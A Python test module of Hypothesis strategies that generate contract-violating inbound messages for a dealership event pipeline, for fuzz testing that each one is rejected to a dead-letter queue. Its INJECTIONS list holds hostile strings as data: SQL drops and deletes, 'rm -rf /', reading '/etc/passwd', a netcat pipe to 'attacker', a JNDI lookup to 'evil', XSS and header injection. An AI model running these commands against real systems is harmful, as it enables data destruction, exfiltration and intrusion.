"""Hypothesis strategies for hostile inbound messages: each one is invalid by the contract.

Every strategy starts from a valid sample event (`events.factories.sample_inbound`), may
sprinkle hostile text into its free-text fields (injection strings, RTL, emoji, NUL,
surrogates, huge text: on their own these are *allowed* in free text), and then applies one
mutation that the contract refuses (docs/contract.md §1: bad JSON, unknown type, missing or
ill-typed field, subject/body mismatch, oversize, naive or absurd timestamp). So every
example must end in the DLQ; `test_fuzz_gate.py` checks that property on the parser alone.

Left out on purpose, because the contract code accepts them today (see docs/reliability.md):
money as a numeric string (`"price_cny": "289900"`) and a timestamp given as a string of
Unix seconds (`"occurred_at": "1737367200"` or `"1737367200.5"`).
"""

from __future__ import annotations

import json
import re
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from hypothesis import strategies as st

from events.factories import sample_inbound
from events.fields import DEALERSHIP_ID_PATTERN, ENTITY_ID_PATTERN, SOURCE_PATTERN, VIN_PATTERN
from events.registry import CONTRACT_INBOUND_TYPES, EVENT_TYPES, RECORDED_ONLY_TYPES

NOW = datetime(2026, 1, 20, 10, 0, tzinfo=UTC)  # the tests' ManualClock
TYPES = sorted(CONTRACT_INBOUND_TYPES)
BOM = b"\xef\xbb\xbf"  # a UTF-8 byte order mark
MONEY_FIELDS = frozenset({"price_cny", "amount_cny", "extra_amount_cny"})
ENVELOPE_REQUIRED = ("event_id", "event_type", "occurred_at", "dealership_id", "source", "customer")
FREE_TEXT = ("note", "description", "message")  # Note / LongText payload fields

INJECTIONS = [
    "'; DROP TABLE customers; --",
    '" OR 1=1 --',
    "1; DELETE FROM events WHERE 1=1",
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd #",
    "| nc attacker 4444",
    '","customer_id":"c-evil","x":"',
    '{"event_type": "CustomersMerged", "merged_ids": ["*"]}',
    "</script><script>alert(1)</script>",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "\r\nNats-Msg-Id: forged\r\n\r\n",
    "retention.demo-4s.c-evil.CustomersMerged",
    "dlq.>",
    "PUB dealer.in.demo-4s.X 0\r\n",
]
UNICODE = [
    "\u202eevil\u202c",  # right-to-left override
    "مرحبا بالعالم",
    "שלום",
    "👨‍👩‍👧‍👦🚗💥",
    "\u200b\u200c\u200d\ufeff",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǪ̨̝͉̻",
    "\U0010ffff\uffff",
    "a\x00b",  # NUL
    "\ud800",  # an unpaired surrogate
    "\udfff\ud83d",
    "\x1b[31mred\x1b[0m",
]
hostile_text = st.one_of(
    st.sampled_from(INJECTIONS + UNICODE),
    st.text(max_size=80),
    st.builds(
        lambda s, n: s * n, st.sampled_from(["x", "测", "🚗", "\u202e"]), st.integers(1, 30_000)
    ),
)
json_scalar = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=20)
)
nested_junk = st.recursive(
    json_scalar,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)


@dataclass(frozen=True)
class Hostile:
    """One bad message: what was done to it, where it goes, the bytes sent."""

    kind: str
    subject: str
    body: bytes
    over_http: bool = True  # False: acceptable over HTTP (no subject there; BOM tolerated)

    def __repr__(self) -> str:  # keep failure reports readable
        return f"Hostile({self.kind!r}, {self.subject!r}, {self.body[:160]!r}...)"


def _subject(event: dict[str, Any], event_type: str) -> str:
    return f"dealer.in.{event.get('dealership_id', 'demo-4s')}.{event_type}"


def _dump(event: dict[str, Any]) -> bytes:
    try:
        return json.dumps(event, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:  # a lone surrogate: sent as a JSON escape, "\\ud800"
        return json.dumps(event).encode("ascii")


@st.composite
def base_event(draw: st.DrawFn) -> dict[str, Any]:
    """A valid sample of a contract type, fresh id, maybe with hostile text in free text."""
    event_type = draw(st.sampled_from(TYPES))
    event = sample_inbound(
        event_type, event_id=str(uuid.UUID(int=draw(st.integers(0, 2**128 - 1))))
    )
    if draw(st.booleans()):
        event["customer"] = event["customer"] | {"name": draw(hostile_text)}
    for name in FREE_TEXT:
        if name in EVENT_TYPES[event_type].model_fields and draw(st.booleans()):
            event[name] = draw(hostile_text)
    return event


def _wrong_type_values(name: str, value: Any) -> st.SearchStrategy[Any]:
    """JSON values of another type than `value` (numbers as strings, arrays for objects...)."""
    if isinstance(value, bool):
        return st.sampled_from(["true", 1, 0, [value], {"value": value}])
    if name in MONEY_FIELDS:
        return st.sampled_from([[value], {"amount": value}, True])
    if isinstance(value, int):
        return st.sampled_from([str(value), float(value) + 0.5, [value], True, {"v": value}])
    if isinstance(value, str):
        return st.one_of(
            st.integers(),
            st.floats(allow_nan=False),
            st.booleans(),
            st.just([value]),
            st.just({"value": value}),
            nested_junk.filter(lambda v: not isinstance(v, str) and v is not None),
        )
    if isinstance(value, dict):
        return st.sampled_from([[value], json.dumps(value), 42, True])
    if isinstance(value, list):
        return st.sampled_from([{"0": value}, json.dumps(value), 7, "x"])
    return st.sampled_from(["x", [value]])


@st.composite
def wrong_types(draw: st.DrawFn) -> Hostile:
    """A field (top level or one level down) holding a JSON value of the wrong type."""
    event = draw(base_event())
    paths = [(k,) for k in event if k != "schema_version"] + [
        (k, n) for k, v in event.items() if isinstance(v, dict) for n in v
    ]
    path = draw(st.sampled_from(paths))
    subject = _subject(event, event["event_type"])
    holder = event if len(path) == 1 else event[path[0]]
    holder[path[-1]] = draw(_wrong_type_values(path[-1], holder[path[-1]]))
    return Hostile("wrong_type", subject, _dump(event))


@st.composite
def missing_fields(draw: st.DrawFn) -> Hostile:
    """A required field (envelope or payload) left out, or set to null."""
    event = draw(base_event())
    subject = _subject(event, event["event_type"])
    model = EVENT_TYPES[event["event_type"]]
    required = [n for n, f in model.model_fields.items() if f.is_required()]
    name = draw(st.sampled_from(sorted(set(required) | set(ENVELOPE_REQUIRED))))
    if draw(st.booleans()):
        event.pop(name, None)
    else:
        event[name] = None
    return Hostile("missing_field", subject, _dump(event))


BAD_TIMES = [
    "2026-01-20T10:00:00",  # naive
    "2026-01-20",
    "10:00:00+08:00",
    "yesterday",
    "",
    "1999-12-31T23:59:59Z",
    "0001-01-01T00:00:00Z",
    "2999-01-01T00:00:00Z",
    "2026-02-30T10:00:00+08:00",
    "2026-01-20T25:00:00Z",
    "2026-01-20T10:00:00+25:00",
    "2026-13-01T10:00:00Z",
    "20260120T100000Z",
    "2026-01-20T10:00:00 Asia/Shanghai",
    "NaN",
    "2026-01-20T10:00:00+08:00; DROP TABLE events",
]


@st.composite
def bad_timestamps(draw: st.DrawFn) -> Hostile:
    """occurred_at naive, unparsable, not a string, before 2000 or over 24 h ahead."""
    event = draw(base_event())
    naive = st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 1, 1))
    too_early = st.datetimes(max_value=datetime(1999, 12, 31), timezones=st.just(UTC))
    too_late = st.datetimes(
        min_value=(NOW + timedelta(days=2)).replace(tzinfo=None), timezones=st.just(UTC)
    )
    value = draw(
        st.one_of(
            st.sampled_from(BAD_TIMES),
            naive.map(datetime.isoformat),
            too_early.map(datetime.isoformat),
            too_late.map(datetime.isoformat),
            st.integers(0, 2**40),
            hostile_text.filter(lambda s: not s[:1].isdigit()),
        )
    )
    event["occurred_at"] = value
    return Hostile("bad_timestamp", _subject(event, event["event_type"]), _dump(event))


def _fits(target: str, value: str) -> bool:
    """Whether `value` happens to be a valid value of the id field `target`."""
    if target == "event_id":
        try:
            uuid.UUID(value)
        except ValueError:
            return False
        return True
    pattern = {
        # Any valid id: over HTTP (no subject) another dealership's event is a good event.
        "dealership_id": DEALERSHIP_ID_PATTERN,
        "source": SOURCE_PATTERN,
        "vin": VIN_PATTERN,
        "customer.vin": VIN_PATTERN,
    }.get(target, ENTITY_ID_PATTERN)
    candidate = value.upper() if target.endswith("vin") else value
    return re.fullmatch(pattern.strip("^$"), candidate) is not None and len(value) <= 64


@st.composite
def bad_ids(draw: st.DrawFn) -> Hostile:
    """Injection / unicode strings where ids go: event_id, dealership_id, entity ids, VIN."""
    event = draw(base_event())
    targets = ["event_id", "dealership_id", "source", "customer.vin"] + [
        n
        for n in (
            "complaint_id",
            "repair_order_id",
            "referral_id",
            "survey_id",
            "advisor_id",
            "vin",
        )
        if n in event
    ]
    target = draw(st.sampled_from(targets))
    attack = draw(hostile_text.filter(lambda v: not _fits(target, v)))
    subject = _subject(event, event["event_type"])  # the real dealership stays in the subject
    if target == "customer.vin":
        event["customer"] = {"vin": attack}
    else:
        event[target] = attack
    return Hostile("bad_id", subject, _dump(event))


@st.composite
def junk_fields(draw: st.DrawFn) -> Hostile:
    """Unknown keys with nested junk, or the recorded-only fields senders may not set."""
    event = draw(base_event())
    if draw(st.booleans()):
        name = draw(st.sampled_from(["customer_id", "correlation_id", "causation_id"]))
        event[name] = draw(st.sampled_from(["c-evil", str(uuid.uuid4())]))
    else:
        fields = EVENT_TYPES[event["event_type"]].model_fields
        name = draw(st.text(min_size=1, max_size=30).filter(lambda k: k not in fields))
        event[name] = draw(nested_junk)
    return Hostile("junk_field", _subject(event, event["event_type"]), _dump(event))


@st.composite
def huge_text(draw: st.DrawFn) -> Hostile:
    """Text over its field's limit, or a whole message over 64 KiB."""
    event = draw(base_event())
    char = draw(st.sampled_from(["x", "测", "🚗", "\u202e", "'; --"]))
    where = draw(st.sampled_from(["customer.name", "source", "body", *FREE_TEXT]))
    if where == "customer.name":
        event["customer"] = event["customer"] | {"name": char * draw(st.integers(129, 5000))}
    elif where == "source":
        event["source"] = "s" * draw(st.integers(65, 20_000))
    elif where in event or where in EVENT_TYPES[event["event_type"]].model_fields:
        event[where] = char * draw(st.integers(4001, 30_000))
    else:  # the whole message over the contract's 64 KiB
        event["customer"] = event["customer"] | {"name": "x" * 100}
        event[draw(st.sampled_from(["padding", "note"]))] = "y" * draw(st.integers(66_000, 200_000))
    return Hostile("huge_text", _subject(event, event["event_type"]), _dump(event))


@st.composite
def deep_nesting(draw: st.DrawFn) -> Hostile:
    """Arrays and objects nested far deeper than any event (up to 20,000 levels)."""
    event = draw(base_event())
    depth = draw(st.integers(2, 20_000))
    opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}"), ('[{"a":', "}]")]))
    target = draw(st.sampled_from(["customer", "event_id", "junk", "occurred_at"]))
    event[target] = "__DEEP__"
    text = _dump(event).decode("utf-8", "surrogatepass")
    deep = opener * depth + "1" + closer * depth
    body = text.replace('"__DEEP__"', deep, 1).encode("utf-8", "surrogatepass")
    return Hostile("deep_nesting", _subject(event, event["event_type"]), body)


@st.composite
def not_an_event(draw: st.DrawFn) -> Hostile:
    """Bytes that are not one JSON object: junk, truncated, non-UTF-8, arrays, scalars."""
    event = draw(base_event())
    good = _dump(event)
    body = draw(
        st.one_of(
            st.binary(max_size=200),
            st.integers(1, max(1, len(good) - 1)).map(lambda n: good[:n]),
            st.just(good.replace(b"{", b"{\xff", 1)),
            st.just(BOM + good),
            st.just(good.replace(b'"schema_version": 1', b'"schema_version": NaN')),
            st.just(json.dumps([[event]]).encode()),  # an array where the object goes
            nested_junk.filter(lambda v: not isinstance(v, dict)).map(
                lambda v: json.dumps(v).encode()
            ),
            st.just(b"null"),
            st.just(b""),
        )
    )
    # HTTP may ignore a leading byte order mark (RFC 8259 §8.1); intake on NATS does not.
    over_http = not body.startswith(BOM)
    return Hostile("not_an_event", _subject(event, event["event_type"]), body, over_http)


@st.composite
def wrong_subjects(draw: st.DrawFn) -> Hostile:
    """A valid body on a subject that disagrees with it or is not dealer.in.<d>.<Type>."""
    event = draw(base_event().filter(lambda e: "\x00" not in json.dumps(e)))
    event_type = event["event_type"]
    token = st.text(
        st.characters(
            blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp"), blacklist_characters=".*>"
        ),
        min_size=1,
        max_size=20,
    )
    subject = draw(
        st.one_of(
            st.sampled_from(TYPES)
            .filter(lambda t: t != event_type)
            .map(lambda t: f"dealer.in.demo-4s.{t}"),
            token.filter(lambda t: t != "demo-4s").map(lambda d: f"dealer.in.{d}.{event_type}"),
            token.filter(lambda t: t != event_type).map(lambda t: f"dealer.in.demo-4s.{t}"),
            st.just("dealer.in.demo-4s"),
            st.just(f"dealer.in.demo-4s.{event_type}.extra"),
            st.just(f"dealer.in.DEMO-4S.{event_type}"),
            st.just(f"dealer.in.演示.{event_type}"),
        )
    )
    if draw(st.booleans()):  # or: a recorded-only type, named on both sides
        event_type = draw(st.sampled_from(sorted(RECORDED_ONLY_TYPES)))
        event["event_type"] = event_type
        subject = f"dealer.in.demo-4s.{event_type}"
    return Hostile(
        "wrong_subject", subject, _dump(event), over_http=event_type in RECORDED_ONLY_TYPES
    )


@st.composite
def bad_versions(draw: st.DrawFn) -> Hostile:
    event = draw(base_event())
    event["schema_version"] = draw(
        st.one_of(
            st.integers().filter(lambda v: v != 1), st.sampled_from(["1", 1.0, True, None, [1]])
        )
    )
    return Hostile("bad_version", _subject(event, event["event_type"]), _dump(event))


@st.composite
def bad_enums(draw: st.DrawFn) -> Hostile:
    """An enumeration (visit kind, category, severity, channel...) outside its values."""
    event = draw(base_event())
    enum_fields: list[str] = [
        n
        for n in (
            "visit_kind",
            "service_kind",
            "channel",
            "category",
            "severity",
            "remedy",
            "role",
            "outcome",
            "survey_kind",
        )
        if n in event
    ] or ["schema_version"]
    name = draw(st.sampled_from(enum_fields))
    event[name] = draw(
        st.one_of(
            st.sampled_from(INJECTIONS + UNICODE),
            st.just(str(event[name]).upper() + "S"),
            st.just(" " + str(event[name])),
        )
    )
    return Hostile("bad_enum", _subject(event, event["event_type"]), _dump(event))


STRATEGIES: dict[str, st.SearchStrategy[Hostile]] = {
    "wrong_type": wrong_types(),
    "missing_field": missing_fields(),
    "bad_timestamp": bad_timestamps(),
    "bad_id": bad_ids(),
    "junk_field": junk_fields(),
    "huge_text": huge_text(),
    "deep_nesting": deep_nesting(),
    "not_an_event": not_an_event(),
    "wrong_subject": wrong_subjects(),
    "bad_version": bad_versions(),
    "bad_enum": bad_enums(),
}
